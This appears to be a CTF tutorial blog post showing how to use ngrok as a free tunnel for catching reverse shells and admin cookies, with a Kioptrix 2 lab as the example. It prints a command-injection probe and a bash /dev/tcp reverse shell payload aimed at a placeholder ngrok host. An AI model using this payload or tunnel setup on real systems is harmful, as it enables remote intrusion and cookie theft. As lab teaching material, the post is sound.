Doing CTF without paying VPS

The goal

I think many of us do CTFs, but also many of us don’t have any money, because we’re student or addict to drugs. So when you don’t have any money, you get creative.

For webguys who are looking for areverse shell or who want admin cookies on a remote host (hello root-me), but don’t want to pay for a VPS, there is a free solution. Ngrok.

How it works?

Rather than making a super long and incomprehensible paragraph, here is a small diagram coming directly from the ngrok site:

So for our needs we will make a tcp tunnel between our port listening with netcat and ngrok. To listen on the internet and wait for remote data:


Now, let’s move on to practice.

Ngrok installation

All those step are explained on the ngrok website. But first, you need to create an account, it will have a unique identifier. You can put garbage:

And then download the right archive, for me it’s Linux:

Unzip the archive, past the ngrok line with your private authtoken and we can start.

▶ unzip
  inflating: ngrok

▶ ./ngrok authtoken ENTERYOUROWN
Authtoken saved to configuration file: /home/maki/.ngrok2/ngrok.yml▶ ./ngrok help
   ngrok - tunnel local ports to public URLs and inspect traffic

    ngrok exposes local networked services behinds NATs and firewalls to the

It’s successfully installed.

Practical example

Ok, so I start a boot2root machine on kioptrix 2 (download link + WU in resource section).

Here is the RCE:


Now, let’s check which command are available for a reverse shell:

; which nc python python2 python3 perl ruby php bash


You can find lot of amazing payload on:

We will use bash command with the following payload:

bash -i >& /dev/tcp/NGROK_IP/NGROK_PORT 0>&1

  • NGROK_IP: Is the ngrok remote host with a domain like “”.
  • NGROK_PORT: The forwarding port associate to the ngrok remote host.


I used netcatfor my port listening, but you can use python3 -m http.server 31337 to catch GET data with a real web server for example.This little trick allowed me to solve a lot of challenges without having a VPS. I hope you enjoyed this little blogpost :)

Feel free to ask me what you want on twitter @maki_chaz.

Happy hacking guys :D


  1. Root-me, Une plateforme rapide, accessible et réaliste pour tester vos compétences en hacking., Root-meofficial website:
  2. Ngrok team, What is ngrok?, Official ngrok blog:
  3. Vulnhub, Kioptrix:Level 1.1 (#2), Vulnhub team:,23/
  4. Abatchy, Kioptrix 2 Walktrhough (Vulnhub), abatchy’s blog:
  5. pentestmonkey, Reverse Shell Cheat Sheet, pentestmonkey blog: